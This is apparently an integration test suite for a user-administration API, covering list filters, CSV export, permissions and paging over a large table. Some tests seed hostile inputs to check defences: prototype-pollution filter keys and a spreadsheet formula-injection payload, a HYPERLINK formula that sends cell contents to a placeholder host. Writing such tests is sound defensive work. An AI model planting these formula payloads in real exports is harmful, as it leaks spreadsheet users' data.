import { randomUUID } from 'node:crypto';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startHarness, type Harness } from './harness';
import { call, createUser, permissionByRoute, runSql } from './helpers';
import { EXPORT_BATCH } from '../../src/core/server/crud/export-csv';
import { TRUST_ESTIMATE } from '../../src/core/server/crud/count';

let h: Harness;
const marker = `flt${Date.now().toString(36)}`;
const get = (url: string, token = h.adminToken) => call(h, 'GET', url, { token });

/** A CSV download split into lines and cells (no quoted commas in these tests' values unless asked). */
function lines(body: string): string[] {
  expect(body.startsWith('\uFEFF')).toBe(true);
  return body.slice(1).split('\r\n').filter(Boolean);
}

beforeAll(async () => {
  h = await startHarness();
  // Seven users: joined on known days, some blocked or unconfirmed.
  const days = ['2026-01-01', '2026-01-15', '2026-01-31', '2026-02-01', '2026-02-10', '2026-03-01', '2026-03-02'];
  for (const [i, day] of days.entries()) {
    const u = await createUser(h, {
      name: `Person ${i} ${marker}`,
      email: `${marker}.p${i}@example.com`,
      blocked: i % 3 === 0,
      confirmed: i !== 5,
    });
    await runSql(h, sql`UPDATE users SET created_at = ${`${day}T23:30:00Z`}::timestamptz WHERE id = ${u._id}`);
  }
});
afterAll(async () => {
  await h?.close();
});

describe('list filters', () => {
  test('a date range keeps whole days at both ends, with search and boolean filters', async () => {
    const jan = await get(`/api/auth/users?q=${marker}&createdAt_gte=2026-01-15&createdAt_lte=2026-01-31`);
    expect(jan.statusCode).toBe(200);
    expect(jan.json().data.map((u: { name: string }) => u.name)).toEqual([`Person 2 ${marker}`, `Person 1 ${marker}`]);
    const from = await get(`/api/auth/users?q=${marker}&createdAt_gte=2026-02-01`);
    expect(from.json().total).toBe(4);
    const until = await get(`/api/auth/users?q=${marker}&createdAt_lte=2026-01-01`);
    expect(until.json().data.map((u: { name: string }) => u.name)).toEqual([`Person 0 ${marker}`]);
    const blockedInFeb = await get(`/api/auth/users?q=${marker}&createdAt_gte=2026-02-01&blocked=true`);
    expect(blockedInFeb.json().data.map((u: { name: string }) => u.name)).toEqual([`Person 6 ${marker}`, `Person 3 ${marker}`]);
  });

  test('a malformed date is a 400 naming the parameter', async () => {
    for (const bad of ['2026-13-45', 'yesterday', '2026-01-01T00:00:00Z']) {
      const res = await get(`/api/auth/users?createdAt_gte=${encodeURIComponent(bad)}`);
      expect(res.statusCode, bad).toBe(400);
      expect(Object.keys(res.json().fields)).toEqual(['createdAt_gte']);
    }
  });

  test('an enum filter and a relation filter', async () => {
    const gets = (await get('/api/auth/permissions?method=GET&limit=1000')).json().data as { method: string }[];
    expect(gets.length).toBeGreaterThan(3);
    expect(gets.every((p) => p.method === 'GET')).toBe(true);
    expect((await get('/api/auth/permissions?method=PATCH')).statusCode).toBe(400);

    const u = (await get(`/api/auth/users?q=${marker}.p1@`)).json().data[0];
    const role = (await get('/api/auth/roles?q=User')).json().data.find((r: { name: string }) => r.name === 'User');
    expect((await call(h, 'POST', '/api/auth/user-roles', { token: h.adminToken, body: { user: u._id, role: role._id } })).statusCode).toBe(
      201,
    );
    const mine = await get(`/api/auth/user-roles?user=${u._id}`);
    expect(mine.json().data).toEqual([
      expect.objectContaining({ user: expect.objectContaining({ _id: u._id }), role: expect.objectContaining({ name: 'User' }) }),
    ]);
    expect((await get(`/api/auth/user-roles?user=${randomUUID()}`)).json().total).toBe(0);
  });

  test('an unknown filter, a private column or a prototype key is a 400, never a silent unfiltered list', async () => {
    for (const key of ['nope', 'password', 'passwordHash', 'googleSub', '__proto__', 'constructor', 'hasOwnProperty', 'toString']) {
      for (const base of ['/api/auth/users', '/api/auth/users/export.csv']) {
        const res = await get(`${base}?${encodeURIComponent(key)}=x`);
        expect(res.statusCode, `${base} ${key}`).toBe(400);
        expect(res.json(), `${base} ${key}`).toEqual({ error: `Unknown filter: ${key}`, fields: { [key]: 'Unknown filter' } });
      }
    }
    // The server keeps answering normally afterwards (nothing polluted).
    expect((await get(`/api/auth/users?q=${marker}`)).json().total).toBe(7);
  });
});

describe('CSV export', () => {
  test('streams the search, filters and order of the list as CSV', async () => {
    const res = await get(`/api/auth/users/export.csv?q=${marker}&blocked=false&sort=name&order=DESC`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="users.csv"');
    const [header, ...rows] = lines(res.body);
    expect(header).toBe('createdAt,name,email,confirmed,blocked,image,phone,address,bio');
    expect(rows.map((r) => r.split(',')[1])).toEqual([5, 4, 2, 1].map((i) => `Person ${i} ${marker}`));
    expect(rows[0]).toBe(`2026-03-01T23:30:00.000Z,Person 5 ${marker},${marker}.p5@example.com,false,false,,,,`);
    expect(res.body).not.toMatch(/argon2|password/i);
  });

  test('cells a spreadsheet would run as formulas are neutralised', async () => {
    const evil = await createUser(h, {
      name: `=HYPERLINK("http://x.example/?"&A1,"${marker} click")`,
      email: `${marker}.evil@example.com`,
    });
    await call(h, 'PUT', `/api/auth/users/${evil._id}`, { token: h.adminToken, body: { phone: '+30 210 0000000', address: '@SUM(1+1)' } });
    const res = await get(`/api/auth/users/export.csv?q=${marker}.evil`);
    const [, row] = lines(res.body);
    expect(row).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""${marker} click"")"`);
    expect(row).toContain(`,'+30 210 0000000,'@SUM(1+1),`);
  });

  test('whoever may list may export; others get 403, no token 401', async () => {
    expect((await call(h, 'GET', '/api/auth/users/export.csv')).statusCode).toBe(401);
    const plain = await createUser(h, { role: 'User' });
    const plainToken = await h.login(plain.email, plain.password);
    const refused = await get('/api/auth/users/export.csv', plainToken);
    expect(refused.statusCode).toBe(403);
    expect(refused.json()).toEqual({ error: 'You do not have permission to do this.' });

    const listUsers = await permissionByRoute(h, 'GET', '/api/auth/users');
    const role = await call(h, 'POST', '/api/auth/roles', {
      token: h.adminToken,
      body: { name: `Readers ${marker}`, type: 'user', description: 'list users', permission: [listUsers._id] },
    });
    expect(role.statusCode).toBe(201);
    const reader = await createUser(h);
    await call(h, 'POST', '/api/auth/user-roles', { token: h.adminToken, body: { user: reader._id, role: role.json()._id } });
    const readerToken = await h.login(reader.email, reader.password);
    const ok = await get(`/api/auth/users/export.csv?q=${marker}.p0@`, readerToken);
    expect(ok.statusCode).toBe(200);
    expect(lines(ok.body)).toHaveLength(2);
    // The export has no permission record of its own to grant separately.
    const perms = (await get('/api/auth/permissions?limit=1000000')).json().data as { route: string }[];
    expect(perms.some((p) => p.route.endsWith('export.csv'))).toBe(false);
  });

  test('reads past many batches without losing or repeating a row, ties included', async () => {
    const bulk = `${marker}bulk`;
    const n = EXPORT_BATCH * 2 + 37;
    // One instant for all: the order's ties are broken by id across batch boundaries.
    await runSql(
      h,
      sql`INSERT INTO users (name, email, created_at, confirmed, blocked)
          SELECT 'Bulk ' || i, ${bulk} || '.' || i || '@example.com', '2025-05-05T05:05:05.123456Z'::timestamptz, true, (i % 2 = 0)
          FROM generate_series(1, ${n}) AS i`,
    );
    const res = await get(`/api/auth/users/export.csv?q=${bulk}`);
    const rows = lines(res.body).slice(1);
    expect(rows).toHaveLength(n);
    expect(new Set(rows.map((r) => r.split(',')[2])).size).toBe(n);
    const page = (await get(`/api/auth/users?q=${bulk}&limit=${EXPORT_BATCH + 5}&page=1`)).json().data as { email: string }[];
    expect(rows.slice(0, page.length).map((r) => r.split(',')[2])).toEqual(page.map((u) => u.email));

    const byName = lines((await get(`/api/auth/users/export.csv?q=${bulk}&sort=name&order=ASC&blocked=true`)).body).slice(1);
    expect(byName).toHaveLength(Math.floor(n / 2));
    const names = byName.map((r) => r.split(',')[1]);
    expect(names).toEqual([...names].sort());
  });

  test('a relation sort exports in the list order', async () => {
    const csv = lines((await get('/api/auth/user-roles/export.csv?sort=role.type&order=DESC')).body);
    const list = (await get('/api/auth/user-roles?sort=role.type&order=DESC&limit=1000')).json().data as {
      user: { name: string };
      role: { name: string };
    }[];
    expect(csv[0]).toBe('createdAt,user,role');
    expect(csv.slice(1).map((r) => r.split(',').slice(1).join(','))).toEqual(list.map((x) => `${x.user.name},${x.role.name}`));
  });
});

describe('a big table', () => {
  test("a full page's total is the planner's estimate, and every page holds its own rows", async () => {
    const big = `zzbig${Date.now().toString(36)}`;
    const n = TRUST_ESTIMATE + 1000;
    await runSql(
      h,
      sql`INSERT INTO users (name, email, confirmed) SELECT 'Many ' || i, ${big} || '.' || lpad(i::text, 6, '0') || '@example.com', true
          FROM generate_series(1, ${n}) AS i`,
    );
    await runSql(h, sql`ANALYZE users`);
    const [{ estimate }] = await runSql(h, sql`SELECT reltuples::bigint::int AS estimate FROM pg_class WHERE oid = 'users'::regclass`);
    expect(Number(estimate)).toBeGreaterThanOrEqual(TRUST_ESTIMATE);

    const first = (await get('/api/auth/users?page=1&limit=25')).json();
    expect(first).toMatchObject({ total: Number(estimate), totalExact: false, page: 1 });
    expect(first.data).toHaveLength(25);

    // Pages one after another, more times than PostgreSQL needs to keep one plan for a statement.
    const pages: string[] = [];
    for (let page = 1; page <= 8; page++) {
      const res = (await get(`/api/auth/users?page=${page}&limit=40&sort=email&order=DESC`)).json();
      expect(res).toMatchObject({ total: Number(estimate), totalExact: false, page });
      pages.push(...res.data.map((u: { email: string }) => u.email));
    }
    const expected = await runSql(h, sql`SELECT email FROM users ORDER BY email DESC LIMIT 320`);
    expect(pages).toEqual(expected.map((r) => r.email));
    expect(pages[0]).toBe(`${big}.${String(n).padStart(6, '0')}@example.com`);

    // Searches of one shape, one term after another: each finds its own rows.
    const emails = async (q: string) => {
      const res = (await get(`/api/auth/users?page=1&limit=25&sort=email&order=ASC&q=${encodeURIComponent(q)}`)).json();
      return { total: res.total as number, emails: res.data.map((u: { email: string }) => u.email) as string[] };
    };
    for (let i = 1; i <= 7; i++) {
      const id = String(i * 1111).padStart(6, '0');
      expect(await emails(`${big}.${id}`)).toEqual({ total: 1, emails: [`${big}.${id}@example.com`] });
    }
    const tens = await emails(`${big}.00002`);
    expect(tens).toEqual({ total: 10, emails: Array.from({ length: 10 }, (_, i) => `${big}.00002${i}@example.com`) });
    // Two letters match the start of a value: every one of these users, and no one else.
    const zz = await emails('ZZ');
    expect(zz.emails).toHaveLength(25);
    expect(zz.emails.every((e) => e.startsWith(big))).toBe(true);
    expect(zz.total).toBeGreaterThanOrEqual(10000);
    // 31,000 rows written and analysed in PGlite: 3 s alone, past 30 s with CI's other parts on both cores.
  }, 120_000);
});
